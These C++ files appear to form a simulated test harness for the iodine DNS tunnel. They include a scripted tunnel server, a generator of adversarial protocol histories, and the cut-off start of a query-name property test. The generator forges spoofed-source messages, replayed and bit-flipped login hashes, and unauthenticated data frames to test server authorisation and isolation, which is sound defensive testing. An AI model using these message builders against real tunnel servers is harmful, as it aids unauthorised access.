static const uint8_t DCC1[48] = {0, 0, 0, 0, 255, 255, 255, 255, 0x55, 0x55, 0x55, 0x55, 0xaa, 0xaa, 0xaa, 0xaa,
	0201, 0143, 0310, 0322, 0307, 0174, 0262, 0027, 0137, 0117, 0316, 0311, 0111, 0055, 0122, 0041,
	0141, 0251, 0161, 0040, 0045, 0263, 0006, 0163, 0346, 0330, 0104, 0060, 0171, 0120, 0127, 0277};

// handshake steps as seen by the server (for the per-step statistics)
enum Step { S_Y, S_V, S_L, S_I, S_RAWLOGIN, S_Z, S_S, S_O, S_R, S_N, S_P, S_DATA, S_OTHER, S_NSTEPS };
static const char *STEPNAME[] = {"y", "v", "l", "i", "rawlogin", "z", "s", "o", "r", "n", "ping", "data", "other"};

inline int step_of(char cmd)
{
	char k = (char)tolower((unsigned char)cmd);
	switch (k) { case 'y': return S_Y; case 'v': return S_V; case 'l': return S_L; case 'i': return S_I; case 'z': return S_Z; case 's': return S_S;
	case 'o': return S_O; case 'r': return S_R; case 'n': return S_N; case 'p': return S_P; }
	if ((k >= '0' && k <= '9') || (k >= 'a' && k <= 'f')) return S_DATA;
	return S_OTHER;
}

struct ScriptServer {
	sim::Addr addr4 = scn::SRV4, addr6 = scn::SRV6;
	std::string domain = "t.example.com";
	Bytes password;
	uint32_t seed = 0x12345678; int userid = 3;
	char downenc = 'T'; int fragsize = 100; bool lazy = false; int upcodec = 0;
	std::string login_reply = "10.0.0.1-10.0.0.2-1130-27";
	bool raw_ok = true;
	// tunnel state
	int in_seq = 0, in_frag = 0;
	int out_seq = 0, out_frag = 0; Bytes out_z; size_t out_off = 0, out_sent = 0;
	std::deque<Bytes> out_queue;       // packets (uncompressed tun frames) to send downstream
	Bytes up_buf; int up_seq = -1;
	std::vector<Bytes> up_received;    // upstream packets reassembled
	// bookkeeping
	uint64_t nq[S_NSTEPS] = {0};
	int queries = 0;
	sim::Addr client_addr; bool have_client = false; sim::Addr client_raw; bool raw_mode = false;
	std::vector<uint16_t> recent_ids;  // ids of the client's most recent ping/data queries
	// policy: return true when the query was dealt with (honest answer suppressed)
	std::function<bool(ScriptServer &, const refproto::Query &, const sim::Datagram &, int step)> policy;
	std::function<bool(ScriptServer &, const sim::Datagram &)> raw_policy;

	void attach()
	{
		sim::W.actors[addr4] = [this](const sim::Datagram &dg) { on_datagram(dg); };
		sim::W.actors[addr6] = [this](const sim::Datagram &dg) { on_datagram(dg); };
	}

	void reply(const sim::Datagram &q, const Bytes &dgram)
	{
		sim::Datagram r; r.src = q.dst; r.dst = q.src; r.data = dgram;
		sim::W.send(r);
	}
	void answer(const sim::Datagram &dg, const refproto::Query &q, const Bytes &payload, char enc)
	{
		reply(dg, refproto::make_answer(q.id, q.name, q.qtype, payload, enc, queries * 3, queries * 7));
	}

	Bytes down_header(size_t datalen_for_last, bool last) const
	{
		(void)datalen_for_last;
		return Bytes{(uint8_t)(0x80 | ((in_seq & 7) << 4) | (in_frag & 15)), (uint8_t)(((out_seq & 7) << 5) | ((out_frag & 15) << 1) | (last ? 1 : 0))};
	}

	// current downstream fragment (or dataless header)
	Bytes next_down()
	{
		if (out_z.empty() && !out_queue.empty()) { out_z = refproto::zcompress(out_queue.front()); out_queue.pop_front(); out_off = 0; out_sent = 0; out_seq = (out_seq + 1) & 7; out_frag = 0; }
		if (out_z.empty()) return down_header(0, false);
		size_t n = std::min<size_t>((size_t)std::max(fragsize, 1), out_z.size() - out_off);
		bool last = out_off + n == out_z.size();
		Bytes p = down_header(n, last);
		p.insert(p.end(), out_z.begin() + out_off, out_z.begin() + out_off + n);
		out_sent = n;
		if (out_off == 0 && last) { out_z.clear(); out_sent = 0; }   // whole packet in one fragment: no ack needed
		return p;
	}
	void ack(int seq, int frag)
	{
		if (out_z.empty() || !out_sent) return;
		if (seq != out_seq || frag != out_frag) return;
		out_off += out_sent; out_sent = 0; out_frag = (out_frag + 1) & 15;
		if (out_off >= out_z.size()) { out_z.clear(); out_off = 0; out_frag = (out_frag + 15) & 15; }
	}

	void honest(const sim::Datagram &dg, const refproto::Query &q, int step)
	{
		const std::string &d = q.data;
		switch (step) {
		case S_V: {
			Bytes b = ref::codec_decode(0, q.rest, true);
			uint32_t ver = b.size() >= 4 ? ((uint32_t)b[0] << 24 | b[1] << 16 | b[2] << 8 | b[3]) : 0;
			Bytes p;
			if (ver == refproto::PROTOCOL_VERSION) { p = Bytes{'V', 'A', 'C', 'K', (uint8_t)(seed >> 24), (uint8_t)(seed >> 16), (uint8_t)(seed >> 8), (uint8_t)seed, (uint8_t)userid}; downenc = 'T'; fragsize = 100; }
			else p = Bytes{'V', 'N', 'A', 'K', 0, 0, 5, 2, 0};
			answer(dg, q, p, 'T'); break;
		}
		case S_L: {
			Bytes b = ref::codec_decode(0, q.rest, true);
			uint8_t h[16]; ref::login_hash(password, seed, h);
			if (b.size() >= 18 && !memcmp(h, b.data() + 1, 16)) answer(dg, q, Bytes(login_reply.begin(), login_reply.end()), downenc);
			else answer(dg, q, Bytes{'L', 'N', 'A', 'K'}, 'T');
			break;
		}
		case S_I: {
			Bytes p{'I'};
			if (dg.dst.family == AF_INET6) p.insert(p.end(), dg.dst.ip, dg.dst.ip + 16); else p.insert(p.end(), dg.dst.ip, dg.dst.ip + 4);
			answer(dg, q, p, 'T'); break;
		}
		case S_Z: answer(dg, q, Bytes(d.begin(), d.end()), 'T'); break;
		case S_S: {
			int codec = d.size() >= 3 ? ref::b32_value((unsigned char)d[2]) : -1;
			const char *n = codec == 5 ? "Base32" : (codec == 6 ? "Base64" : (codec == 26 ? "Base64u" : (codec == 7 ? "Base128" : nullptr)));
			if (n) { upcodec = codec == 5 ? 0 : (codec == 6 ? 1 : (codec == 26 ? 2 : 3)); answer(dg, q, Bytes(n, n + strlen(n)), downenc); }
			else answer(dg, q, Bytes{'B', 'A', 'D', 'C', 'O', 'D', 'E', 'C'}, downenc);
			break;
		}
		case S_O: {
			char o = d.size() >= 3 ? (char)tolower((unsigned char)d[2]) : 0;
			const char *n = nullptr;
			switch (o) { case 't': downenc = 'T'; n = "Base32"; break; case 's': downenc = 'S'; n = "Base64"; break; case 'u': downenc = 'U'; n = "Base64u"; break;
			case 'v': downenc = 'V'; n = "Base128"; break; case 'r': downenc = 'R'; n = "Raw"; break; case 'l': lazy = true; n = "Lazy"; break; case 'i': lazy = false; n = "Immediate"; break; }
			if (!n) n = "BADCODEC";
			answer(dg, q, Bytes(n, n + strlen(n)), downenc); break;
		}
		case S_Y: {
			char c = d.size() >= 2 ? (char)toupper((unsigned char)d[1]) : 0;
			int variant = d.size() >= 3 ? ref::b32_value((unsigned char)d[2]) : -1;
			uint16_t t = q.qtype;
			bool nametype = t == refdns::T_TXT || t == refdns::T_SRV || t == refdns::T_MX || t == refdns::T_CNAME || t == refdns::T_A;
			bool ok = variant == 1 && ((strchr("TSUV", c) && c && nametype) || (c == 'R' && (t == refdns::T_NULL || t == refdns::T_TXT)));
			if (d.size() < 6 || variant != 1) answer(dg, q, Bytes{'B', 'A', 'D', 'L', 'E', 'N'}, 'T');
			else if (ok) answer(dg, q, Bytes(DCC1, DCC1 + 48), c);
			else answer(dg, q, Bytes{'B', 'A', 'D', 'C', 'O', 'D', 'E', 'C'}, 'T');
			break;
		}
		case S_R: {
			if (d.size() < 16) { answer(dg, q, Bytes{'B', 'A', 'D', 'L', 'E', 'N'}, 'T'); break; }
			int v1 = std::max(0, ref::b32_value((unsigned char)d[1])), v2 = std::max(0, ref::b32_value((unsigned char)d[2])), v3 = std::max(0, ref::b32_value((unsigned char)d[3]));
			int req = ((v1 & 1) << 10) | ((v2 & 31) << 5) | (v3 & 31);
			if (req < 2 || req > 2047) { answer(dg, q, Bytes{'B', 'A', 'D', 'F', 'R', 'A', 'G'}, downenc); break; }
			Bytes p(req); p[0] = (uint8_t)(req >> 8); p[1] = (uint8_t)req; if (req > 2) p[2] = 107;
			uint8_t v = (uint8_t)(queries * 13);
			for (int i = 3; i < req; i++, v = (uint8_t)(v + 107)) p[i] = v;
			answer(dg, q, p, downenc); break;
		}
		case S_N: {
			Bytes b = ref::codec_decode(0, q.rest, true);
			if (b.size() < 3) { answer(dg, q, Bytes{'B', 'A', 'D', 'L', 'E', 'N'}, 'T'); break; }
			int f = (b[1] << 8) | b[2];
			if (f < 2) answer(dg, q, Bytes{'B', 'A', 'D', 'F', 'R', 'A', 'G'}, downenc);
			else { fragsize = f; answer(dg, q, Bytes{b[1], b[2]}, downenc); }
			break;
		}
		case S_P: case S_DATA: {
			refproto::QAck a;
			if (!refproto::query_ack(q, a)) break;
			ack(a.dn_seq, a.dn_frag);
			if (a.is_data) {
				if (a.up_seq != up_seq) { up_seq = a.up_seq; up_buf.clear(); in_seq = a.up_seq; in_frag = a.up_frag; }
				else if (a.up_frag > in_frag) in_frag = a.up_frag;
				std::string enc = q.rest.size() > 4 ? q.rest.substr(4) : std::string();
				Bytes chunk = ref::codec_decode(upcodec, enc, true);
				up_buf.insert(up_buf.end(), chunk.begin(), chunk.end());
				if (a.last) { Bytes out; if (refproto::zuncompress(up_buf, out)) up_received.push_back(out); up_buf.clear(); }
			}
			recent_ids.push_back(q.id); if (recent_ids.size() > 3) recent_ids.erase(recent_ids.begin());
			answer(dg, q, next_down(), downenc);
			break;
		}
		default: break;
		}
	}

	void on_datagram(const sim::Datagram &dg)
	{
		queries++;
		if (!have_client) { client_addr = dg.src; have_client = true; }
		if (dg.data.size() >= 4 && dg.data[0] == 0x10 && dg.data[1] == 0xd1 && dg.data[2] == 0x9e) {
			nq[S_RAWLOGIN]++;
			if (raw_policy && raw_policy(*this, dg)) return;
			int cmd = dg.data[3] >> 4;
			if (cmd == 1 && raw_ok && dg.data.size() >= 20) {
				uint8_t h[16]; ref::login_hash(password, seed + 1, h);
				if (!memcmp(h, dg.data.data() + 4, 16)) { uint8_t r[16]; ref::login_hash(password, seed - 1, r); raw_mode = true; client_raw = dg.src; reply(dg, refproto::raw_frame(1, userid, Bytes(r, r + 16))); }
			} else if (cmd == 3 && raw_mode) reply(dg, refproto::raw_frame(3, userid, Bytes()));
			else if (cmd == 2 && raw_mode) { Bytes z(dg.data.begin() + 4, dg.data.end()), out; if (refproto::zuncompress(z, out)) up_received.push_back(out); }
			return;
		}
		refproto::Query q;
		if (!refproto::decode_query(dg.data, domain, q)) return;
		int step = q.data.empty() ? S_OTHER : step_of(q.cmd);
		nq[step]++;
		if (policy && policy(*this, q, dg, step)) return;
		honest(dg, q, step);
	}
};

} // namespace cli
