// adv_common.h -- adversarial histories against the real iodined: several source addresses send
// protocol messages with adversarially chosen fields (and their mutations), raw-mode frames, honest
// sessions run in between, time advances across the 60 s expiry.  A wire-level monitor learns challenges,
// slot assignments and logins from what it sees on the wire (never from server memory).
// Shared by C03 (authorisation), C04 (isolation) and C05 (survival).
#pragma once
#include "sim/harness.h"
#include "sim/scenario.h"
#include "sim/monitors.h"
#include <algorithm>
#include <memory>

namespace adv {
using namespace hz;
using scn::fmt;

enum Kind { K_V, K_L, K_I, K_S, K_O, K_N, K_R, K_P, K_DATA, K_RAWLOGIN, K_RAWDATA, K_RAWPING, K_ADV, K_TUN, K_Z, K_Y, K_NKINDS };
static const char *KNAME[] = {"V", "L", "I", "S", "O", "N", "R", "P", "data", "rawlogin", "rawdata", "rawping", "advance", "tun", "Z", "Y"};

enum HashKind { H_CURRENT, H_EARLIER, H_OTHERSLOT, H_PLUS1, H_MINUS1, H_BITFLIP, H_RANDOM, H_SHORT };
static const char *HNAME[] = {"current", "earlier-challenge", "other-slot", "challenge+1", "challenge-1", "bitflip", "random", "short"};

struct Act {
	int kind = K_ADV;
	int src = 0;             // index of the source address
	int user = 0;            // userid named in the message
	int hash = H_RANDOM;
	int arg = 0, arg2 = 0;   // codec / option letter / fragment size / destination selector
	int mut = 0;             // 0 none, 1 upper-case command letter, 2 truncated, 3 user char outside Base32, 4 upper-case everything
	uint32_t salt = 0;
	uint64_t dt = 0;
	bool spoof = false;      // C04: sent for a userid bound to another address
	std::string str() const
	{
		if (kind == K_ADV) return fmt("advance %.1fs", dt / 1e6);
		std::string s = fmt("src%d %s user=%d", src, KNAME[kind], user);
		if (kind == K_L || kind == K_RAWLOGIN) s += fmt(" hash=%s", HNAME[hash]);
		if (kind == K_S || kind == K_O || kind == K_N || kind == K_R || kind == K_DATA || kind == K_TUN) s += fmt(" arg=%d", arg);
		if (mut) s += fmt(" mut=%d", mut);
		if (spoof) s += " [spoof]";
		return s;
	}
};

struct Slot {
	bool have = false;                 // a VACK naming this slot has been seen
	uint32_t challenge = 0;
	std::vector<uint32_t> earlier;     // challenges of earlier incarnations
	sim::Addr vack_to;
	uint64_t t_vack = 0;
	bool auth = false;                 // a login carrying the correct response to the current challenge was delivered
	bool raw = false;                  // raw login with the correct challenge+1 response was delivered after auth
	uint64_t t_active = 0;             // last time the slot was provably refreshed (VACK, accepted login/ping/data)
	Bytes tun_ip;                      // learned from the login reply
	int bound_src = -1;
};

struct Source {
	scn::ScriptClient sc;              // address, inbox, id counter (its protocol state is only used by honest sessions)
	size_t seen = 0;
};

struct Honest {                        // an honest session driven through its ScriptClient
	int src = -1; bool up = false; int user = -1; size_t absorbed = 0;
	uint64_t t_last = 0;
};

struct Env {
	scn::Config cfg;
	std::unique_ptr<scn::Session> s;
	mon::Verdicts v;
	mon::WireMonitor wm;
	mon::TunMonitor tm;
	std::vector<std::unique_ptr<Source>> src;
	Slot slot[32];
	int nslots = 16;
	Bytes password;
	std::vector<std::string> trace;
	// what the server is processing right now (set on every datagram the server reads)
	struct Cur { bool valid = false; sim::Addr from; bool raw = false; int rawcmd = 0; int user = -1000; char cmd = 0; refproto::Query q; Bytes data; uint64_t serial = 0; bool spoof = false; } cur;
	std::vector<Bytes> unauth_upstream;    // compressed packets sent upstream in the name of slots that were not logged in at that moment
	std::vector<Bytes> auth_upstream;
	// counters
	uint16_t spoof_cmc = 30000; int spoof_data_cmc = 0; uint16_t spoof_id = 60000;   // spoofed messages use their own counters so that honest traffic is bit-identical with and without them
	int n_login_ok = 0, n_refused = 0, n_replay = 0, n_priv_ok = 0, n_tunw = 0, n_rawlogin_ok = 0, n_vack = 0, n_vful = 0, n_expired_reuse = 0;
	std::map<std::string, int> per_cmd;

	void note(const std::string &x) { if (trace.size() < 300) trace.push_back(fmt("%.3f ", sim::W.now / 1e6) + x); if (getenv("VERIF_TRACE")) fprintf(stderr, "%.6f %s\n", sim::W.now / 1e6, x.c_str()); }
	Source &S(int k) { return *src[k]; }
};

inline sim::Addr src_addr(int k, bool v6)
{
	if (v6) { uint8_t ip[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x01, (uint8_t)(0x10 + k)}; return sim::Addr::v6(ip, (uint16_t)(6000 + k)); }
	return sim::Addr::v4(198, 51, 100, (uint8_t)(10 + k), (uint16_t)(6000 + k));
}

inline void boot(Env &E, Tape &t, int nsrc, bool allow_v6 = true)
{
	scn::Config &c = E.cfg;
	c.nclients = 0;
	E.s.reset(new scn::Session(c));
	E.password = Bytes(c.password.begin(), c.password.end());
	E.tm.attach(sim::W);
	E.s->start_server();
	E.wm.v = &E.v; E.wm.domain = c.domain; E.wm.srv_idx = E.s->srv->idx;
	E.wm.attach(sim::W);
	int size = 1 << (32 - c.netmask);
	E.nslots = std::min(16, size - 3);
	for (int k = 0; k < nsrc; k++) {
		std::unique_ptr<Source> s(new Source());
		s->sc.addr = src_addr(k, allow_v6 && t.chance(1, 4));
		s->sc.domain = c.domain; s->sc.password = E.password; s->sc.qtype_k = c.qtype ? c.qtype : 1;
		s->sc.next_id = (uint16_t)(1000 + 5000 * k);
		s->sc.attach();
		E.src.push_back(std::move(s));
	}
	sim::W.run_for(20000);
}

// ---- wire monitor for slots: learns from server emissions and from datagrams the server reads
inline uint32_t be32(const uint8_t *p) { return ((uint32_t)p[0] << 24) | ((uint32_t)p[1] << 16) | ((uint32_t)p[2] << 8) | p[3]; }

inline bool is_rawframe(const Bytes &d) { return d.size() >= 4 && d[0] == 0x10 && d[1] == 0xd1 && d[2] == 0x9e; }

// decode what a datagram read by the server asks for: the slot it names and the command
inline void decode_incoming(Env &E, const sim::Datagram &dg)
{
	Env::Cur &c = E.cur;
	c = Env::Cur();
	c.valid = true; c.from = dg.src; c.data = dg.data; c.serial = dg.serial;
	if (is_rawframe(dg.data)) { c.raw = true; c.rawcmd = dg.data[3] >> 4; c.user = dg.data[3] & 15; return; }
	if (!refproto::decode_query(dg.data, E.cfg.domain, c.q)) return;
	c.cmd = c.q.cmd;
	char k = (char)tolower((unsigned char)c.cmd);
	const std::string &d = c.q.data;
	if (k == 'l' || k == 'n' || k == 'p') {
		Bytes b = ref::codec_decode(0, c.q.rest, true);
		if (!b.empty()) c.user = (int)(int8_t)b[0];
	} else if (k == 'i' || k == 's' || k == 'o') {
		if (d.size() >= 2) { int v = ref::b32_value((unsigned char)d[1]); c.user = v < 0 ? 0 : v; /* characters outside the alphabet decode as value 0 */ }
	} else if (k == 'r') {
		if (d.size() >= 2) { int v = ref::b32_value((unsigned char)d[1]); if (v < 0) v = 0; c.user = (v >> 1) & 15; }
	} else if ((k >= '0' && k <= '9') || (k >= 'a' && k <= 'f')) {
		c.user = k <= '9' ? k - '0' : k - 'a' + 10;
	}
}

inline bool slot_ok(const Env &E, int u) { return u >= 0 && u < 32; }

// the login message the server is reading: does it answer the slot's current challenge?
inline void learn_from_incoming(Env &E)
{
	Env::Cur &c = E.cur;
	if (!c.valid) return;
	if (c.raw) {
		if (c.rawcmd == 1 && slot_ok(E, c.user) && E.slot[c.user].have && E.slot[c.user].auth && c.data.size() >= 20) {
			uint8_t h[16]; ref::login_hash(E.password, E.slot[c.user].challenge + 1, h);
			if (!memcmp(h, c.data.data() + 4, 16)) E.slot[c.user].raw = true;
		}
		return;
	}
	char k = (char)tolower((unsigned char)c.cmd);
	if (k == 'l' && slot_ok(E, c.user) && E.slot[c.user].have) {
		Bytes b = ref::codec_decode(0, c.q.rest, true);
		if (b.size() >= 18) {
			uint8_t h[16]; ref::login_hash(E.password, E.slot[c.user].challenge, h);
			if (!memcmp(h, b.data() + 1, 16)) { if (!E.slot[c.user].auth) E.n_login_ok++; E.slot[c.user].auth = true; }
		}
	}
}

inline void learn_from_emission(Env &E, const sim::Datagram &dg)
{
	if (is_rawframe(dg.data)) return;
	refproto::Answer a;
	if (!refproto::decode_answer(dg.data, a) || !a.ok) return;
	int dl = ref::match_datalen(a.qname, E.cfg.domain);
	if (dl <= 0) return;
	char k = (char)tolower((unsigned char)a.qname[0]);
	if (k == 'v' && a.payload.size() >= 9 && !memcmp(a.payload.data(), "VACK", 4)) {
		int u = a.payload[8];
		if (u < 32) {
			Slot &s = E.slot[u];
			if (s.have) s.earlier.push_back(s.challenge);
			s.have = true; s.challenge = be32(a.payload.data() + 4); s.vack_to = dg.dst; s.t_vack = sim::W.now; s.auth = false; s.raw = false; s.t_active = sim::W.now;
			s.tun_ip.clear(); s.bound_src = -1;
			for (size_t i = 0; i < E.src.size(); i++) if (E.src[i]->sc.addr == dg.dst) s.bound_src = (int)i;
			E.n_vack++;
		}
	}
	if (k == 'v' && a.payload.size() >= 4 && !memcmp(a.payload.data(), "VFUL", 4)) E.n_vful++;
	if (k == 'l' && E.cur.valid && !E.cur.raw && slot_ok(E, E.cur.user)) {
		std::string s(a.payload.begin(), a.payload.end());
		unsigned a1, b1, c1, d1, a2, b2, c2, d2; int mtu, nm;
		if (sscanf(s.c_str(), "%u.%u.%u.%u-%u.%u.%u.%u-%d-%d", &a1, &b1, &c1, &d1, &a2, &b2, &c2, &d2, &mtu, &nm) == 10)
			E.slot[E.cur.user].tun_ip = Bytes{(uint8_t)a2, (uint8_t)b2, (uint8_t)c2, (uint8_t)d2};
	}
}

// ---- message construction from an action (adversarial fields)
inline void fill_hash(Env &E, Tape &t, const Act &a, uint8_t h[16], size_t &hlen)
{
	hlen = 16;
	const Slot *s = slot_ok(E, a.user) && E.slot[a.user].have ? &E.slot[a.user] : nullptr;
	uint32_t ch = s ? s->challenge : a.salt;
	switch (a.hash) {
	case H_CURRENT: break;
	case H_EARLIER: ch = s && !s->earlier.empty() ? s->earlier[a.salt % s->earlier.size()] : ch ^ 0x5a5a5a5a; break;
	case H_OTHERSLOT: { bool f = false; for (int k = 1; k < 16 && !f; k++) { int u = (a.user + k) & 15; if (E.slot[u].have && E.slot[u].challenge != ch) { ch = E.slot[u].challenge; f = true; } } if (!f) ch ^= 0x01000000; break; }
	case H_PLUS1: ch = ch + 1; break;
	case H_MINUS1: ch = ch - 1; break;
	default: break;
	}
	ref::login_hash(E.password, ch, h);
	if (a.hash == H_BITFLIP) h[a.salt % 16] ^= (uint8_t)(1u << ((a.salt >> 8) & 7));
	if (a.hash == H_RANDOM) { uint32_t x = a.salt | 1; for (int i = 0; i < 16; i++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; h[i] = (uint8_t)x; } }
	if (a.hash == H_SHORT) hlen = a.salt % 16;
	(void)t;
}

inline std::string mutate_name(const std::string &name, int mut, size_t domlen)
{
	std::string n = name;
	if (mut == 1 && !n.empty()) n[0] = (char)toupper((unsigned char)n[0]);
	if (mut == 4) for (auto &c : n) c = (char)toupper((unsigned char)c);
	if (mut == 2) { size_t data = n.size() - domlen - 1; if (data > 3) n = n.substr(0, 2 + data / 2) + n.substr(data); }
	if (mut == 3 && n.size() > 2) n[1] = '_';
	return n;
}

// a small complete IPv4-looking packet from the named slot's tunnel address to the chosen destination
inline Bytes small_packet(Env &E, const Act &a, const Bytes &dst)
{
	Bytes src = slot_ok(E, a.user) && !E.slot[a.user & 31].tun_ip.empty() ? E.slot[a.user & 31].tun_ip : Bytes{10, 99, 99, 99};
	Bytes body(8 + (a.salt % 24));
	for (size_t i = 0; i < body.size(); i++) body[i] = (uint8_t)(a.salt * 31 + i * 7 + 1);
	return scn::tun_packet(dst, src, body, (uint16_t)(a.salt & 0xffff));
}

inline Bytes dest_ip(Env &E, const Act &a)
{
	// arg2: 0 server, 1..: another slot's tunnel address (if known), else unassigned
	if (a.arg2 == 0) return E.s->server_tun_ip();
	int u = (a.arg2 - 1) & 15;
	if (!E.slot[u].tun_ip.empty()) return E.slot[u].tun_ip;
	return E.s->server_tun_ip();
}

// send the datagram described by `a`; returns the DNS id used (0 for raw frames)
inline uint16_t send_act(Env &E, Tape &t, const Act &a)
{
	Source &S = E.S(a.src);
	const std::string &dom = E.cfg.domain;
	static const char cm[] = "abcdefghijklmnopqrstuvwxyz0123456789";
	uint16_t cmc = a.spoof ? E.spoof_cmc++ : (uint16_t)(S.sc.cmc++);
	std::string name;
	switch (a.kind) {
	case K_V: name = refproto::name_version(a.arg ? 0x00000501 + (a.salt & 3) * 0x100 : refproto::PROTOCOL_VERSION, cmc, dom); break;
	case K_L: {
		uint8_t h[16]; size_t hl; fill_hash(E, t, a, h, hl);
		Bytes d; d.push_back((uint8_t)a.user); d.insert(d.end(), h, h + hl); d.push_back((uint8_t)(cmc >> 8)); d.push_back((uint8_t)cmc);
		name = refproto::host_b32('l', d, dom); break;
	}
	case K_I: name = refproto::name_ip(a.user, cmc, dom); break;
	case K_S: { static const int codecs[] = {5, 6, 26, 7, 0, 31, 8}; name = refproto::name_switch_codec(a.user, codecs[a.arg % 7], cmc, dom); break; }
	case K_O: { static const char opts[] = "tsuvrliTLxz"; name = refproto::name_option(a.user, opts[a.arg % 11], cmc, dom); break; }
	case K_N: name = refproto::name_set_fragsize(a.user, a.arg & 0xffff, cmc, dom); break;
	case K_R: name = refproto::name_fragprobe(a.user, a.arg & 2047, "aaaaaaaaaaaaaaaaaaaaaaaaaa", dom); break;
	case K_P: name = refproto::name_ping(a.user, a.arg & 7, a.arg2 & 15, cmc, dom); break;
	case K_Z: name = refproto::name_z("aA-Aaahhh-Drink-mal-ein-J\xe4germeister-", cmc, dom); break;
	case K_Y: name = refproto::name_downenc_test("tsuvrx"[a.arg % 6], 1 + (a.arg2 & 1) * 3, cmc, dom); break;
	case K_DATA: {
		Bytes pkt = small_packet(E, a, dest_ip(E, a));
		Bytes z = refproto::zcompress(pkt);
		bool authd = slot_ok(E, a.user) && a.user < 16 && E.slot[a.user].auth;
		(authd ? E.auth_upstream : E.unauth_upstream).push_back(z);
		int seq = 1 + (int)((a.salt >> 4) % 7);
		int &dc = a.spoof ? E.spoof_data_cmc : S.sc.data_cmc;
		name = refproto::name_data(a.user, seq, 0, 0, 0, 1, cm[dc], 0, z, dom);
		dc = (dc + 1) % 36;
		break;
	}
	case K_RAWLOGIN: {
		Act b = a; if (a.hash == H_CURRENT) b.hash = H_PLUS1; else if (a.hash == H_PLUS1) b.hash = H_CURRENT;   // "current" for a raw login is challenge+1
		uint8_t h[16]; size_t hl; fill_hash(E, t, b, h, hl);
		S.sc.send_raw(refproto::raw_frame(1, a.user, Bytes(h, h + hl)));
		return 0;
	}
	case K_RAWDATA: {
		Bytes pkt = small_packet(E, a, dest_ip(E, a));
		Bytes z = refproto::zcompress(pkt);
		bool authd = slot_ok(E, a.user) && a.user < 16 && E.slot[a.user].auth;
		(authd ? E.auth_upstream : E.unauth_upstream).push_back(z);
		if (a.mut == 2) z.resize(z.size() / 2);
		S.sc.send_raw(refproto::raw_frame(2, a.user, z));
		return 0;
	}
	case K_RAWPING: S.sc.send_raw(refproto::raw_frame(3, a.user, Bytes())); return 0;
	default: return 0;
	}
	name = mutate_name(name, a.mut, dom.size());
	if (name.size() > 253) name = name.substr(name.size() - 253);
	if (a.spoof) { uint16_t id = E.spoof_id++; if (E.spoof_id == 0) E.spoof_id = 60000; return S.sc.send_name(name, id); }
	return S.sc.send_name(name);
}

// ---- honest session steps (through the source's ScriptClient)
inline bool honest_start(Env &E, Honest &h, bool lazy)
{
	scn::ScriptClient &sc = E.S(h.src).sc;
	h.up = sc.handshake(lazy, 0, 0, 0);
	h.user = sc.userid;
	h.t_last = sim::W.now;
	if (h.up && h.user >= 0 && h.user < 32) E.slot[h.user].tun_ip = [&] { unsigned a = 0, b = 0, c = 0, d = 0; sscanf(sc.tun_ip_text.c_str(), "%u.%u.%u.%u", &a, &b, &c, &d); return Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)c, (uint8_t)d}; }();
	return h.up;
}

inline void honest_absorb(Env &E, Honest &h)
{
	scn::ScriptClient &sc = E.S(h.src).sc;
	for (; h.absorbed < sc.inbox.size(); h.absorbed++) {
		const scn::Rx &rx = sc.inbox[h.absorbed];
		char k = rx.is_raw || rx.ans.qname.empty() ? 0 : (char)tolower((unsigned char)rx.ans.qname[0]);
		if (k && strchr("p0123456789abcdef", k)) sc.absorb(rx);   // only ping/data answers carry the downstream header
	}
}

inline Act gen_hostile(Env &E, Tape &t, int nsrc, bool with_time)
{
	Act a;
	a.kind = (int)t.pick({3, 5, 2, 2, 2, 2, 1, 3, 4, 3, 3, 1, (uint32_t)(with_time ? 3 : 0)});
	a.src = (int)t.below((uint32_t)nsrc);
	a.salt = t.u32();
	switch (t.pick({8, 2, 1, 1})) {
	case 0: a.user = (int)t.below(16); break;
	case 1: a.user = (int)t.below(32); break;
	case 2: a.user = -1 - (int)t.below(128); break;
	default: a.user = 16 + (int)t.below(112); break;
	}
	// prefer slots that exist
	if (t.chance(2, 3)) { std::vector<int> have; for (int u = 0; u < 16; u++) if (E.slot[u].have) have.push_back(u); if (!have.empty()) a.user = have[t.below((uint32_t)have.size())]; }
	a.hash = (int)t.pick({4, 2, 2, 2, 1, 2, 2, 1});
	a.arg = (int)t.below(65536);
	a.arg2 = (int)t.below(17);
	a.mut = (int)t.pick({12, 1, 1, 1, 1});
	if (a.kind == K_ADV) { static const uint64_t DT[] = {100000, 1000000, 10000000, 30000000, 58000000, 62000000, 130000000}; a.dt = DT[t.pick({3, 3, 2, 2, 1, 2, 1})]; }
	if (a.kind == K_V) a.arg = t.chance(1, 5) ? 1 : 0;
	if (a.kind == K_N && t.chance(1, 2)) a.arg = 2 + (int)t.below(1500);
	return a;
}

} // namespace adv
