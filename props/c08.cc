// C08 -- upstream query names are legal, within the limit, and decode to what was sent.
// Unit shape: build_hostname in the client's call shape (4096-byte buffer, header of 1 or 5 chars),
// dns_encode/dns_decode of the name, query_datalen + unpack_data in the server's call shape.
// Independent oracles: refdns (strict name legality), ref::match_datalen, ref::codec_decode.
#include "sim/harness.h"
#include "tunnel_common.h"
#include "client_common.h"
#include "glue/unit_api.h"
#include "ref/refmisc.h"
#include "ref/refdns.h"
#include <cstring>
using namespace hz;

static const char *CN[4] = {"Base32", "Base64", "Base64u", "Base128"};

static std::string gen_domain(size_t n, int variant, uint32_t salt)
{
	// a valid tunnel domain of exactly n characters (3..128)
	static const char LD[] = "abcdefghijklmnopqrstuvwxyz0123456789-ABCXYZ";
	std::string d;
	auto ch = [&](size_t i) { return LD[(i * 7 + salt) % 43]; };
	if (variant == 0) {            // long labels (63) then rest
		size_t left = n;
		while (left > 0) {
			size_t l = std::min<size_t>(63, left);
			if (left - l == 1) l--;            // never leave a lone dot
			for (size_t i = 0; i < l; i++) d += ch(d.size());
			left -= l;
			if (left > 0) { d += '.'; left--; }
		}
	} else if (variant == 1) {     // single-letter labels
		for (size_t i = 0; i < n; i++) d += (i % 2 == 0) ? ch(i) : '.';
		if (d.back() == '.') d.back() = 'q';
		if (n % 2 == 0) { d[n - 2] = ch(n); }
	} else {                        // mixed label lengths
		size_t left = n; uint32_t s = salt | 1;
		while (left > 0) {
			s = s * 1103515245u + 12345u;
			size_t l = 1 + (s >> 16) % 20;
			if (l > left) l = left;
			if (left - l == 1) { if (l > 1) l--; else l = left; }
			for (size_t i = 0; i < l; i++) d += ch(d.size() + s);
			left -= l;
			if (left > 0) { d += '.'; left--; }
		}
